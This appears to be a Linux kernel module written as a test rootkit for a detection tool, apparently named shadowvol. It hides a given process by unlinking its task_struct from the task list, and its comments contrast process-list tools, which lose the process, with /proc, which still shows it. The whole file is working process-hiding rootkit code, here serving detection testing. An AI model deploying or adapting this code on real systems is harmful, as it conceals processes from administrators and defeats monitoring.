// SPDX-License-Identifier: GPL-2.0
/* Test rootkit (DKOM): hide the process pid= by unlinking its task_struct
 * from the task list (list_del_rcu on task->tasks), the classic technique.
 * The task stays in the pid IDR and keeps running; for_each_process() (and
 * so pslist-style tools) no longer sees it, while /proc, which iterates the
 * pid IDR, still does.
 *
 * After a grace period the unlinked node is made a self-loop, so that the
 * kernel's own list_del_rcu() at exit is harmless. rmmod relinks the task if
 * it is still alive. tasklist_lock is not exported: this is racy against a
 * concurrent fork/exit, as real rootkits are; use it in a quiet test VM. */
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid of the process to hide");

static struct task_struct *hidden;

static int __init rk_hideproc_init(void)
{
	struct pid *p = find_get_pid(pid);

	if (!p)
		return -ESRCH;
	hidden = get_pid_task(p, PIDTYPE_PID);
	put_pid(p);
	if (!hidden)
		return -ESRCH;
	list_del_rcu(&hidden->tasks);
	synchronize_rcu();
	INIT_LIST_HEAD(&hidden->tasks);
	pr_info("rk_hideproc: hid pid %d (%s)\n", pid, hidden->comm);
	return 0;
}

static void __exit rk_hideproc_exit(void)
{
	if (pid_alive(hidden) && list_empty(&hidden->tasks))
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	put_task_struct(hidden);
	pr_info("rk_hideproc: restored pid %d\n", pid);
}

module_init(rk_hideproc_init);
module_exit(rk_hideproc_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: unlink a task from the task list");
